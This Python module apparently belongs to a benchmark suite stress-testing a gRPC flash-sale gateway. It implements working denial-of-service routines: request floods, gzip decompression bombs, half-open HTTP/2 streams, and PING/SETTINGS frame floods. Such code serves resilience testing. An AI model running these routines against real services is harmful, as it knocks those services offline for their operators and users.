"""The attacks, each from one address without an identity, until cancelled."""

import asyncio
import itertools
import signal
import struct
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Mapping
from typing import Any, TypeAlias

from bench.attacks.frames import (
    INITIAL_WINDOW_SIZE,
    PING,
    SETTINGS,
    Wire,
    frame,
    header_block,
    message,
)
from seckill.v1 import gateway_pb2

Attack: TypeAlias = Callable[[str], Coroutine[Any, Any, None]]

UNKNOWN_SKUS_PER_S = 600.0
LISTS_PER_S = 400.0
BOMBS_PER_S = 20.0
BOMB_BYTES = 62 * 2**20
HALF_OPEN_CONNECTIONS, HALF_OPEN_STREAMS = 100, 256
# Of those connections, once the server has closed them.
REOPENED_PER_S = 10.0
# Frames a second, which the attacker's own core can make.
CONTROL_FRAMES_PER_S = 50_000.0
CONTROL_FRAMES_AT_ONCE = 500
# What is closed is opened again, not more often than this.
CONNECTIONS_PER_S = 50.0
GATEWAY = "/seckill.v1.GatewayService/"


async def send_unknown_skus(address: str) -> None:
    """Ask for sales that do not exist, each once."""
    block = header_block(f"{GATEWAY}GetSale")
    numbers = itertools.count()

    def request() -> bytes:
        return gateway_pb2.GatewayServiceGetSaleRequest(
            sku=f"nothing-{next(numbers)}"
        ).SerializeToString()

    await _call_again_and_again(address, block, lambda: message(request()), UNKNOWN_SKUS_PER_S)


async def send_lists(address: str) -> None:
    """Ask for the list of sales."""
    body = message(gateway_pb2.GatewayServiceListSalesRequest().SerializeToString())
    await _call_again_and_again(
        address, header_block(f"{GATEWAY}ListSales"), lambda: body, LISTS_PER_S
    )


async def send_bombs(address: str) -> None:
    """Send purchases of 63 KB that inflate to 62 MiB."""
    block = header_block(f"{GATEWAY}Purchase", ("grpc-encoding", "gzip"))
    body = message(bytes(BOMB_BYTES), compressed=True)
    await _call_again_and_again(address, block, lambda: body, BOMBS_PER_S)


async def hold_half_open(address: str) -> None:
    """Start calls on many connections and never end their requests."""
    block = header_block(f"{GATEWAY}Purchase")

    async def hold() -> None:
        async for wire in _connections(address, pause_s=HALF_OPEN_CONNECTIONS / REOPENED_PER_S):
            for _ in range(HALF_OPEN_STREAMS):
                wire.call(block, b"\0", ends=False)
            await wire.until_closed()

    async with asyncio.TaskGroup() as group:
        for _ in range(HALF_OPEN_CONNECTIONS):
            group.create_task(hold())


async def send_pings(address: str) -> None:
    """Send PING frames, and never stop."""
    await _send_again_and_again(address, frame(PING, 0, 0, bytes(8)))


async def send_settings(address: str) -> None:
    """Send SETTINGS frames, and never stop."""
    window = struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535)
    await _send_again_and_again(address, frame(SETTINGS, 0, 0, window))


ATTACKS: Mapping[str, Attack] = {
    "unknown_skus": send_unknown_skus,
    "lists": send_lists,
    "bombs": send_bombs,
    "half_open": hold_half_open,
    "pings": send_pings,
    "settings": send_settings,
}


def attack(name: str, address: str) -> None:
    """Attack until SIGTERM: what a process of its own runs."""
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    asyncio.run(ATTACKS[name](address))


async def _call_again_and_again(
    address: str, block: bytes, body: Callable[[], bytes], rate_per_s: float
) -> None:
    """Call so often, on one connection at a time, whatever is answered."""

    async def call(wire: Wire) -> None:
        wire.call(block, body())
        await wire.drained()

    await _paced(address, call, rate_per_s)


async def _send_again_and_again(address: str, control: bytes) -> None:
    burst = control * CONTROL_FRAMES_AT_ONCE

    async def send(wire: Wire) -> None:
        wire.send(burst)
        await wire.drained()

    await _paced(address, send, CONTROL_FRAMES_PER_S / CONTROL_FRAMES_AT_ONCE)


async def _paced(address: str, act: Callable[[Wire], Awaitable[None]], rate_per_s: float) -> None:
    """Act so often; what is late is made up for."""
    due_s = time.monotonic()
    async for wire in _connections(address):
        while wire.is_open:
            await act(wire)
            due_s = max(due_s + 1 / rate_per_s, time.monotonic() - 1.0)
            await asyncio.sleep(max(0.0, due_s - time.monotonic()))


async def _connections(
    address: str, *, pause_s: float = 1 / CONNECTIONS_PER_S
) -> AsyncIterator[Wire]:
    """Yield a connection, and another one `pause_s` after the last has been closed."""
    while True:
        try:
            wire = await Wire.open(address)
        except OSError:
            await asyncio.sleep(pause_s)
            continue
        try:
            yield wire
        finally:
            wire.close()
        await asyncio.sleep(pause_s)
